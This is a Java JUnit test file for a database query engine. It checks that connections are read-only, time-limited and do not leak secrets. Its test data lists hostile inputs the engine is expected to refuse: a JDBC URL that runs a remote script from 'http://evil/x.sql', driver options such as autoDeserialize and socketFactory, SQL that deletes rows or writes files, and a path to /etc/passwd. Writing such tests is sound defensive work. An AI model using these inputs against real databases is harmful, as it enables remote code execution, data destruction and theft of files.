package io.svodka.engine.query;

import static io.svodka.engine.query.Plans.column;
import static io.svodka.engine.query.Plans.has;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.svodka.model.failure.RunFailure;
import io.svodka.model.plan.ConnectionPlan;
import io.svodka.model.plan.Dialect;
import io.svodka.model.plan.ExpectationOfTest.Select;
import io.svodka.model.plan.ExpectationPlan;
import io.svodka.model.plan.ExpectationPlan.Rule;
import io.svodka.model.plan.ProjectPlan;
import io.svodka.model.plan.RowExpr.ComparisonOperator;
import io.svodka.model.plan.SourcePlan;
import io.svodka.model.plan.SourcePlan.Origin;
import io.svodka.model.secret.Secret;
import io.svodka.model.value.ColumnType;
import io.svodka.model.value.Value;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Path;
import java.sql.SQLException;
import java.time.Duration;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Function;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Databases are reached by plain addresses only, are only read, end what takes too long, and tell
/// nothing secret when they fail.
class ServersTest {
  private static final String SCHEMA = "safe";

  @TempDir static Path folder;

  @BeforeAll
  static void fill() throws Exception {
    for (Storage storage : Storage.chosen()) {
      storage.fill(folder, SCHEMA, ServersTest::sources, ServersTest::rows);
    }
  }

  private static List<SourcePlan> sources(Function<String, Origin> origin) {
    ColumnType whole = ColumnType.WHOLE;
    List<ExpectationPlan> promises =
        List.of(
            promise(new Rule.Unique(List.of("id"))),
            promise(new Rule.NoNulls(List.of("partner", "amount"))),
            promise(
                new Rule.EachIn(
                    "partner",
                    new ExpectationPlan.Values(
                        "partners", List.of(), column("id", ColumnType.TEXT)))),
            promise(new Rule.RowCount(1, 4)),
            promise(
                new Rule.Holds(
                    Plans.compared(
                        column("amount", whole), ComparisonOperator.AT_LEAST, Plans.number("0")))));
    return List.of(
        Plans.source("partners", origin.apply("partners"), List.of(has("id", ColumnType.TEXT))),
        Plans.source(
            "orders",
            origin.apply("orders"),
            List.of(has("id", whole), has("partner", ColumnType.TEXT), has("amount", whole)),
            promises));
  }

  private static ExpectationPlan promise(Rule rule) {
    return new ExpectationPlan(rule, ExpectationPlan.Severity.ERROR, rule.toString(), Plans.SPAN);
  }

  private static List<List<Object>> rows(String table) {
    return switch (table) {
      case "partners" -> List.of(List.of("id"), List.of("a"), List.of("b"));
      case "orders" ->
          List.of(
              List.of("id", "partner", "amount"),
              List.of(1L, "a", 5L),
              List.of(2L, "GTX", -1L),
              Arrays.asList(2L, "GTX", null),
              List.of(3L, "A", 7L),
              Arrays.asList(4L, null, 1L));
      default -> throw new IllegalArgumentException(table);
    };
  }

  private static QueryEngine engine(Storage storage, List<SourcePlan> sources) {
    return new QueryEngine(project(storage, sources), storage.settings(folder, SCHEMA));
  }

  private static ProjectPlan project(Storage storage, List<SourcePlan> sources) {
    return Plans.project(sources, storage.connection());
  }

  @ParameterizedTest
  @MethodSource("io.svodka.engine.query.Storage#chosen")
  void promisesAreCheckedEverywhere(Storage storage) {
    List<SourcePlan> sources = sources(name -> storage.origin(SCHEMA, name));
    try (QueryEngine engine = engine(storage, sources)) {
      List<String> results =
          engine.verify(List.of("orders"), LocalDate.of(2026, 4, 3)).stream()
              .map(r -> r.violations() + " " + r.examples() + " " + r.detail())
              .toList();
      assertEquals(
          List.of(
              "1 [2 (2 rows)] 1 row repeat another",
              "2 [partner (1 row), amount (1 row)] 2 rows lack a value",
              "3 [GTX (2 rows), A (1 row)] 3 rows name 2 unknown values",
              "1 [] 5 rows",
              "1 [amount -1] 1 row break it"),
          results);
    }
  }

  @ParameterizedTest
  @MethodSource("io.svodka.engine.query.Storage#databases")
  void sqlOfAuthorsGivesRowsAndFigures(Storage storage) {
    String table = storage == Storage.SQLITE ? "orders" : "\"" + SCHEMA + "\".\"orders\"";
    String sql =
        "select \"partner\" as \"who\", \"amount\" + 1 as \"sum\" /* all; of them */ from "
            + table
            + " where \"partner\" <> 'it''s; not' and \"amount\" > 0 -- end\n";
    SourcePlan source =
        Plans.source(
            "sums",
            new Origin.Sql(Storage.CONNECTION, sql),
            List.of(has("who", ColumnType.TEXT), has("sum", ColumnType.WHOLE)));
    try (QueryEngine engine = engine(storage, List.of(source))) {
      assertEquals(
          List.of(List.of(Value.of("A"), Value.of(8)), List.of(Value.of("a"), Value.of(6))),
          ProjectFolder.all(engine, source));
      Select select = new Select(Storage.CONNECTION, "select sum(\"amount\") * 0.5 from " + table);
      assertEquals(
          Value.of(new java.math.BigDecimal("6")).toString(),
          engine.figure(select, Plans.SPAN).toString().replaceFirst("\\.0+", ""));
    }
  }

  /// A text that is no number, and a number too long for the type it is declared with.
  @ParameterizedTest
  @MethodSource("io.svodka.engine.query.Storage#databases")
  void aValueThatDoesNotFitStopsTheRun(Storage storage) {
    for (String sql :
        List.of(
            "select concat('12 ', 'pieces') as \"id\"",
            "select 123456789012345678901234567890.55 as \"id\"")) {
      SourcePlan source =
          Plans.source(
              "s", new Origin.Sql(Storage.CONNECTION, sql), List.of(has("id", ColumnType.WHOLE)));
      try (QueryEngine engine = engine(storage, List.of(source))) {
        RunFailure failure =
            assertThrows(RunFailure.class, () -> ProjectFolder.all(engine, source), sql);
        assertEquals(Optional.of(Plans.SPAN), failure.origin());
      }
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "H2 | jdbc:h2:mem:x",
        "H2 | jdbc:h2:./shop",
        "H2 | jdbc:h2:tcp://localhost/mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "H2 | jdbc:h2:tcp://localhost/mem:x;TRACE_LEVEL_FILE=4",
        "H2 | jdbc:h2:tcp://localhost/mem:x;MODE=MySQL",
        "H2 | jdbc:h2:tcp://localhost/mem:x\\;INIT=x",
        "MARIADB | jdbc:mariadb://localhost/shop?allowLocalInfile=true",
        "MARIADB | jdbc:mariadb://localhost/shop?sslMode=disable&plugin=evil",
        "MARIADB | jdbc:mariadb:sequential://localhost/shop",
        "MARIADB | jdbc:mysql://localhost/shop",
        "MARIADB | jdbc:mariadb://localhost/shop?password=S3cr3t-CANARY",
        "MYSQL | jdbc:mysql://localhost/shop?autoDeserialize=true",
        "MYSQL | jdbc:mysql://address=(host=localhost)(port=1)/shop",
        "POSTGRES | jdbc:postgresql://localhost/shop?socketFactory=evil.Factory",
        "POSTGRES | jdbc:h2:mem:x",
        "SQLITE | jdbc:sqlite::memory:",
        "SQLITE | jdbc:sqlite:file:shop.sqlite?mode=rw",
        "SQLITE | jdbc:sqlite:shop.sqlite?enable_load_extension=true",
        "TRINO | jdbc:trino://localhost/hive?extraCredentials=x:S3cr3t-CANARY",
        "TRINO | jdbc:trino://localhost/hive/sales?SSL=true&password=S3cr3t-CANARY",
        "TRINO | jdbc:trino://localhost/hive?accessToken=S3cr3t-CANARY",
        "TRINO | jdbc:trino://localhost/hive?dnsResolver=evil.Resolver",
        "TRINO | jdbc:trino://localhost/hive?socksProxy=evil:1080",
        "TRINO | jdbc:trino://localhost/hive?SSLKeyStorePath=/etc/keys",
        "TRINO | jdbc:trino://localhost/hive?sessionProperties=query_max_run_time:1s",
        "TRINO | jdbc:trino://localhost/hive?externalAuthentication=true",
        "TRINO | jdbc:trino://localhost",
        "TRINO | jdbc:postgresql://localhost/shop",
      })
  void addressesThatInstructADriverAreRefused(Dialect dialect, String url) {
    RunFailure failure = opening(dialect, url, "anybody");
    assertEquals("SV9119", failure.code());
    assertTrue(failure.getMessage().contains("is refused"), failure.getMessage());
    assertFalse((failure + failure.help()).contains(TestServers.PASSWORD), failure.toString());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:clickhouse://localhost/shop?password=S3cr3t-CANARY",
        "jdbc:clickhouse://localhost/shop?clickhouse_setting_readonly=0",
        "jdbc:clickhouse://localhost/shop?ssl=true&proxy_host=evil",
        "jdbc:clickhouse://one,two/shop",
        "jdbc:ch://localhost/shop",
        "jdbc:clickhouse://localhost",
      })
  void addressesThatInstructTheDriverOfClickHouseAreRefused(String url) {
    addressesThatInstructADriverAreRefused(Dialect.CLICKHOUSE, url);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {"jdbc:sqlite:../shop.sqlite | SV9103", "jdbc:sqlite:/etc/passwd | SV9103"})
  void noFileOutsideTheProjectIsOpened(String url, String code) {
    assertEquals(code, opening(Dialect.SQLITE, url, "anybody").code());
  }

  private static RunFailure opening(Dialect dialect, String url, String user) {
    SourcePlan source =
        Plans.source(
            "s", new Origin.Table("store", "t"), List.of(has("id", ColumnType.TEXT)), List.of());
    DataSettings settings =
        new DataSettings(
            folder,
            Map.of(
                "store",
                new DatabaseAddress(
                    url, user, new Secret(TestServers.PASSWORD), "", Duration.ofSeconds(1))));
    ConnectionPlan connection = new ConnectionPlan("store", dialect, Plans.SPAN);
    try (QueryEngine engine =
        new QueryEngine(Plans.project(List.of(source), connection), settings)) {
      RunFailure failure = assertThrows(RunFailure.class, () -> ProjectFolder.all(engine, source));
      assertEquals(Optional.of(Plans.SPAN), failure.origin());
      return failure;
    }
  }

  @ParameterizedTest
  @EnumSource(names = {"POSTGRES", "H2", "MARIADB"})
  void aWrongUserIsToldWithoutThePassword(Storage storage) {
    String url = TestServers.of(storage).address();
    RunFailure failure = opening(storage.dialect, url, "nobody");
    assertEquals("SV9101", failure.code());
    assertFalse((failure + failure.help()).contains(TestServers.PASSWORD), failure.toString());
  }

  /// The driver alone says that an error occurred.
  @Test
  void aServerThatSpeaksNoTlsIsToldWithWhatLiesBehind() throws IOException {
    try (ServerSocket server = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
      Thread.ofVirtual().start(() -> promiseTls(server));
      String url = "jdbc:postgresql://127.0.0.1:" + server.getLocalPort() + "/crm?sslmode=require";
      RunFailure failure = opening(Dialect.POSTGRES, url, "somebody");
      assertEquals("SV9101", failure.code());
      assertTrue(
          failure.getMessage().contains("Unsupported or unrecognized SSL message"),
          failure.getMessage());
      assertTrue(failure.help().contains("speaks TLS at this port"), failure.help());
    }
  }

  private static void promiseTls(ServerSocket server) {
    try {
      while (true) {
        try (Socket client = server.accept()) {
          client.getInputStream().readNBytes(8);
          client.getOutputStream().write('S');
          // What came before the client has begun TLS would be no answer to it.
          client.getInputStream().readNBytes(1);
          client.getOutputStream().write("220 mail.example ESMTP\r\n".getBytes(US_ASCII));
          client.getInputStream().readAllBytes();
        }
      }
    } catch (IOException closed) {
      // The test is over.
    }
  }

  @Test
  void anAdministratorOfH2IsRefused() throws SQLException {
    TestServers.run(
        TestServers.of(Storage.H2).owner(),
        List.of("create user boss password '" + TestServers.PASSWORD + "' admin"));
    RunFailure failure = opening(Dialect.H2, TestServers.of(Storage.H2).address(), "BOSS");
    assertTrue(failure.getMessage().contains("administrator"), failure.getMessage());
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "H2 | select * from final table (delete from \"safe\".\"orders\")",
        "H2 | select * from \"safe\".\"orders\" // ) q; delete from",
        "H2 | select csvwrite('svodka-test.csv', 'select 1') as \"id\"",
        "MARIADB | select 1 as id into outfile 'svodka-test.csv'",
        "MARIADB | select 1 as id /*! into outfile 'svodka-test.csv' */",
        "MARIADB | select 1 as id # ( \\n ) q join (select 2 as x",
        "MARIADB | select 1 as id --1) q",
        "MARIADB | select nextval(safe.numbers) as id",
        "POSTGRES | with gone as (delete from safe.orders returning *) select * from gone",
        "POSTGRES | select 1 as id /* /* */ ( */ ) q join (select 2 as x",
        "SQLITE | select load_extension('evil') as id",
        "SQLITE | select writefile('x', 'y') as id",
      })
  void nothingIsWritten(Storage storage, String sql) throws Exception {
    if (storage == Storage.MARIADB) {
      TestServers.run(
          TestServers.of(storage).owner(), List.of("create sequence if not exists safe.numbers"));
    }
    SourcePlan source =
        Plans.source(
            "s",
            new Origin.Sql(Storage.CONNECTION, sql.replace("\\n", "\n")),
            List.of(has("id", ColumnType.TEXT)));
    try (QueryEngine engine = engine(storage, List.of(source))) {
      assertThrows(RunFailure.class, () -> ProjectFolder.all(engine, source));
    }
    assertFalse(java.nio.file.Files.exists(Path.of("svodka-test.csv")));
    SourcePlan orders = sources(name -> storage.origin(SCHEMA, name)).getLast();
    try (QueryEngine engine = engine(storage, List.of(orders))) {
      assertEquals(5, ProjectFolder.all(engine, orders).size());
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "POSTGRES | select cast(pg_sleep(20) as text) as id",
        "MARIADB | select sleep(20) as id",
        "H2 | select count(*) as \"id\" from system_range(1, 100000) a, system_range(1, 100000) b",
      })
  void whatTakesTooLongIsStopped(Storage storage, String sql) {
    SourcePlan source =
        Plans.source(
            "s", new Origin.Sql(Storage.CONNECTION, sql), List.of(has("id", ColumnType.TEXT)));
    DataSettings usual = storage.settings(folder, SCHEMA);
    DatabaseAddress address = usual.connections().get(Storage.CONNECTION);
    DataSettings hasty =
        new DataSettings(
            folder,
            Map.of(
                Storage.CONNECTION,
                new DatabaseAddress(
                    address.url(),
                    address.user(),
                    address.password(),
                    "",
                    Duration.ofMillis(700))));
    try (QueryEngine engine = new QueryEngine(project(storage, List.of(source)), hasty)) {
      RunFailure failure = assertThrows(RunFailure.class, () -> ProjectFolder.all(engine, source));
      assertEquals("SV9108", failure.code(), failure.getMessage());
    }
  }
}
